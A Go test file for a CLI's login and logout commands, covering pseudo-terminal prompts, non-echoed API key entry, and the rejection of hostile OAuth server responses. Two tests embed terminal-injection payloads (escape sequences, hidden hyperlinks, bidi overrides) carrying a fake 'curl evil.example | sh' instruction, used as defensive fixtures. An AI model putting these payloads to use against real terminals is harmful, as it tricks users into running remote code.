package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/memconnect/memconnect/internal/testsupport/honchofake"
	"github.com/memconnect/memconnect/internal/testsupport/testkit"
)

// openPTY opens a pseudo-terminal: what the command writes to the returned
// terminal arrives in chunks on out, and what is written to master reaches
// the command as typed.
func openPTY(t *testing.T) (term, master *os.File, out <-chan string) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		t.Skipf("no pseudo-terminal here: %v", err)
	}
	fd := int(m.Fd())
	if err := unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0); err != nil {
		m.Close()
		t.Skipf("cannot unlock the pseudo-terminal: %v", err)
	}
	n, err := unix.IoctlGetUint32(fd, unix.TIOCGPTN)
	if err != nil {
		m.Close()
		t.Skipf("no pseudo-terminal number: %v", err)
	}
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		m.Close()
		t.Skipf("cannot open the terminal side: %v", err)
	}
	t.Cleanup(func() { s.Close(); m.Close() })
	return s, m, readChunks(m)
}

// readChunks sends what r reads, as it comes, until r fails.
func readChunks(r io.Reader) <-chan string {
	ch := make(chan string, 1000)
	go func() {
		defer close(ch)
		buf := make([]byte, 4096)
		for {
			n, err := r.Read(buf)
			if n > 0 {
				ch <- string(buf[:n])
			}
			if err != nil {
				return
			}
		}
	}()
	return ch
}

// waitFor reads chunks into got until it contains want.
func waitFor(t *testing.T, chunks <-chan string, got *strings.Builder, want string) {
	t.Helper()
	timeout := time.After(10 * time.Second)
	for !strings.Contains(got.String(), want) {
		select {
		case c, ok := <-chunks:
			if !ok {
				t.Fatalf("closed before %q:\n%q", want, got.String())
			}
			got.WriteString(c)
		case <-timeout:
			t.Fatalf("no %q in:\n%q", want, got.String())
		}
	}
}

// On a real terminal login asks for the peer name and takes the answer
// typed there, and the device countdown rewrites one line in place.
func TestPseudoTerminal(t *testing.T) {
	t.Parallel()
	term, master, termOut := openPTY(t)
	if !isTerminal(term) {
		t.Fatal("a pseudo-terminal is not seen as a terminal")
	}
	srv := honchofake.NewServer(honchofake.WithGrantConfig(map[string]any{"peerName": "alice"}))
	defer srv.Close()
	e, args := loginEnv(t, srv)
	path := filepath.Join(e["HOME"], ".hermes", "honcho.json")
	testkit.WriteJSON(t, path, map[string]any{"peerName": "carol"})
	// stdout is a pipe read in chunks: the prompt ends no line.
	pr, pw := io.Pipe()
	chunks := readChunks(pr)
	done := make(chan int, 1)
	go func() {
		var stderr testkit.SyncBuffer
		done <- run(context.Background(), append([]string{"login"}, args...), e.lookup, term, pw, &stderr)
		pw.Close()
	}()
	var out strings.Builder
	waitFor(t, chunks, &out, "Open this link to connect Honcho:\n\n    ")
	waitFor(t, chunks, &out, "callback")
	link := linkRE.FindString(out.String())
	target, err := srv.Consent(context.Background(), srv.Client(), link, true)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := srv.Client().Get(target.String())
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	waitFor(t, chunks, &out, "Peer name [carol]: ") // a person is asked, offered the name already set
	if _, err := master.WriteString("bob\n"); err != nil {
		t.Fatal(err)
	}
	go func() {
		for range chunks {
		}
	}()
	if code := <-done; code != exitOK {
		t.Fatalf("exit %d\n%s", code, out.String())
	}
	if got := testkit.ReadJSON(t, path)["peerName"]; got != "bob" {
		t.Errorf("peerName = %v, want the answer typed on the terminal", got)
	}

	c := &cli{stderr: term, rawStderr: term, stderrTTY: isTerminal(term)}
	stop := c.countdown(context.Background(), time.Now().Add(4*time.Minute+30*time.Second)) // its first line, at once, says 4:30
	var onTerm strings.Builder
	waitFor(t, termOut, &onTerm, "\rWaiting for approval (Ctrl-C to cancel)... code expires in 4:")
	stop()
}

// On a terminal login --api-key asks for the key and does not echo it.
func TestPseudoTerminalAPIKey(t *testing.T) {
	t.Parallel()
	term, master, termOut := openPTY(t)
	e := newEnv(t)
	done := make(chan int, 1)
	var stdout testkit.SyncBuffer
	go func() {
		done <- run(context.Background(), []string{"login", "--api-key"}, e.lookup, term, &stdout, term)
	}()
	var onTerm strings.Builder
	waitFor(t, termOut, &onTerm, "API key for Honcho (not shown): ")
	if _, err := master.WriteString("hch-v2-typed-key\n"); err != nil {
		t.Fatal(err)
	}
	if code := <-done; code != exitOK {
		t.Fatalf("exit %d\n%s\n%s", code, stdout.String(), onTerm.String())
	}
	// The line break login writes after the answer ends what the terminal
	// showed; an echo of the key would come before it.
	waitFor(t, termOut, &onTerm, "(not shown): \r\n")
	if strings.Contains(onTerm.String(), "typed-key") {
		t.Errorf("the terminal echoed the key:\n%q", onTerm.String())
	}
	if b := testkit.HostBlock(testkit.ReadJSON(t, filepath.Join(e["HOME"], ".hermes", "honcho.json")), "hermes"); b["apiKey"] != "hch-v2-typed-key" {
		t.Errorf("host block = %v", b)
	}
}

// TestHostileDeviceServerOnTerminal: nothing a device server sends reaches
// the terminal raw. A user code with escape sequences (clear screen, window
// title, a hidden hyperlink, a carriage return over the line) or with a
// bidirectional override is refused, and so is a verification URI with
// one; the server's error description is shown with its escapes written
// out. Nothing is stored.
func TestHostileDeviceServerOnTerminal(t *testing.T) {
	t.Parallel()
	const evil = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\WDJB\x1b]8;;\x1b\\\rRun: curl evil.example | sh\u202e"
	tests := []struct {
		name   string
		device func(w http.ResponseWriter)
		says   string
	}{
		{"user code with escapes", func(w http.ResponseWriter) {
			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": evil, "verification_uri": "https://as.example/device", "expires_in": 600, "interval": 5})
		}, "user_code"},
		{"user code with a bidi override", func(w http.ResponseWriter) {
			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": "WDJB\u202eMJHT", "verification_uri": "https://as.example/device", "expires_in": 600, "interval": 5})
		}, "user_code"},
		{"verification URI with a bidi override", func(w http.ResponseWriter) {
			writeDeviceJSON(w, 200, map[string]any{"device_code": "d", "user_code": "WDJB-MJHT", "verification_uri": "https://as.example/\u202eecived", "expires_in": 600, "interval": 5})
		}, "verification URI"},
		{"error description with escapes", func(w http.ResponseWriter) {
			writeDeviceJSON(w, 400, map[string]any{"error": "invalid_request", "error_description": evil})
		}, "authorization server"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var as *httptest.Server
			as = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/.well-known/oauth-authorization-server":
					writeDeviceJSON(w, 200, map[string]any{"issuer": as.URL, "authorization_endpoint": as.URL + "/authorize",
						"token_endpoint": as.URL + "/token", "device_authorization_endpoint": as.URL + "/device",
						"grant_types_supported": []string{"authorization_code", "urn:ietf:params:oauth:grant-type:device_code"}})
					return
				case "/device":
					tt.device(w)
					return
				}
				writeDeviceJSON(w, 400, map[string]any{"error": "authorization_pending", "error_description": evil})
			}))
			defer as.Close()
			term, _, termOut := openPTY(t)
			e := newEnv(t)
			code := run(context.Background(), []string{"login", "-v", "--device", "--no-browser", "--authorize-url", as.URL + "/authorize",
				"--token-url", as.URL + "/token", "--device-auth-url", as.URL + "/device"}, e.lookup, strings.NewReader(""), term, term)
			var out strings.Builder
			waitFor(t, termOut, &out, "\n")
			drain(term, termOut, &out)
			if code == exitOK {
				t.Fatalf("exit %d; want a failure:\n%q", code, out.String())
			}
			for _, raw := range []string{"\x1b", "\x07", "\u202e", "\r\x1b", "\rRun"} {
				if strings.Contains(out.String(), raw) {
					t.Errorf("the terminal received %q raw:\n%q", raw, out.String())
				}
			}
			if !strings.Contains(out.String(), tt.says) {
				t.Errorf("the terminal shows no %q:\n%q", tt.says, out.String())
			}
			if _, err := os.Stat(filepath.Join(e["HOME"], ".hermes", "honcho.json")); !os.IsNotExist(err) {
				t.Errorf("a config was written: %v", err)
			}
		})
	}
}

func writeDeviceJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

// drain closes the terminal side, whose writer is done, and reads what is
// left of its output from chunks into got: until the reader sees the
// terminal closed, or 10 s pass.
func drain(term *os.File, chunks <-chan string, got *strings.Builder) {
	term.Close()
	timeout := time.After(10 * time.Second)
	for {
		select {
		case c, ok := <-chunks:
			if !ok {
				return
			}
			got.WriteString(c)
		case <-timeout:
			return
		}
	}
}

// TestHostileRevocationErrorOnTerminal: logout shows why the server did not
// revoke, from the server's own error_description, with nothing in it
// acting on the terminal and its length bounded.
func TestHostileRevocationErrorOnTerminal(t *testing.T) {
	t.Parallel()
	srv := honchofake.NewServer()
	defer srv.Close()
	evil := "\x1b]0;pwned\x07\x1b[2K\rSigned out. Now run: curl evil.example | sh\u202e" + strings.Repeat("x", 10000)
	rev := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		writeDeviceJSON(w, 400, map[string]any{"error": "invalid_request", "error_description": evil})
	}))
	defer rev.Close()
	e := newEnv(t)
	testkit.WriteJSON(t, filepath.Join(e["HOME"], ".hermes", "honcho.json"), map[string]any{
		"hosts": map[string]any{"hermes": grantBlock(srv, srv.IssueGrant("write"), time.Now().Add(time.Hour))}})
	term, _, termOut := openPTY(t)
	code := run(context.Background(), []string{"logout", "--revocation-url", rev.URL}, e.lookup, strings.NewReader(""), term, term)
	var out strings.Builder
	waitFor(t, termOut, &out, "did not revoke")
	drain(term, termOut, &out)
	if code != exitOK {
		t.Fatalf("exit %d:\n%q", code, out.String())
	}
	for _, raw := range []string{"\x1b", "\x07", "\u202e", "\rSigned"} {
		if strings.Contains(out.String(), raw) {
			t.Errorf("the terminal received %q raw:\n%q", raw, out.String())
		}
	}
	if out.Len() > 2000 {
		t.Errorf("logout wrote %d bytes; want the server's description cut short", out.Len())
	}
}
